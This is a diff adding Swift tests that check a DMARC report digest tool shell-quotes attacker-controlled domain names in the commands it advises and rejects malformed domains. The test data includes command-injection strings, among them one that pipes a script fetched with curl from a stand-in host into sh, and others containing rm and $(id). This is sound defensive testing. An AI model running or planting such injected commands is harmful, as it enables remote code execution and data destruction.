@@ -149,3 +149,37 @@ func twoWeeks() -> [SyntheticReport] {
             try DateArgument.parse("2025-12-01T12:00:00Z", now: 0, timeZone: berlin) == epoch("2025-12-01T12:00:00Z"))
     }
 }
+
+/// Report data is attacker-controlled: advice that shows a command never makes report data runnable.
+@Suite struct HostileAdviceTests {
+    @Test func aPolicyDomainInAnAdvisedCommandIsQuotedForTheShell() throws {
+        let hostile = "x.com;curl${IFS}evil.sh|sh"
+        let reports = twoWeeks().map { report in
+            var report = report
+            report.domain = hostile
+            return report
+        }
+        let temp = try TemporaryDirectory()
+        let database = try database(with: reports, in: temp)
+        let digest = try DigestBuilder.build(database, period: .lastFullDays(7, now: epoch("2025-11-17T08:00:00Z")))
+        let commands = digest.advice.map(\.text).filter { $0.contains("rua failures --domain") }
+        #expect(!commands.isEmpty)
+        #expect(commands.allSatisfy { $0.contains("--domain 'x.com;curl${ifs}evil.sh|sh'") })
+    }
+
+    @Test func shellWordsQuoteEverythingAShellWouldRead() {
+        #expect(DomainName.shellWord("example.com") == "example.com")
+        #expect(DomainName.shellWord("a b") == "'a b'")
+        #expect(DomainName.shellWord("it's;rm") == "'it'\\''s;rm'")
+        #expect(DomainName.shellWord("$(id)") == "'$(id)'")
+        #expect(DomainName.shellWord("") == "''")
+    }
+
+    @Test func domainNamesAreCheckedForShape() {
+        #expect(DomainName.isValid("example.com"))
+        #expect(DomainName.isValid("_dmarc.göpher.test"))
+        #expect(!DomainName.isValid("x.com;curl${IFS}evil.sh|sh"))
+        #expect(!DomainName.isValid("a..b"))
+        #expect(!DomainName.isValid(String(repeating: "a", count: 64) + ".com"))
+    }
+}
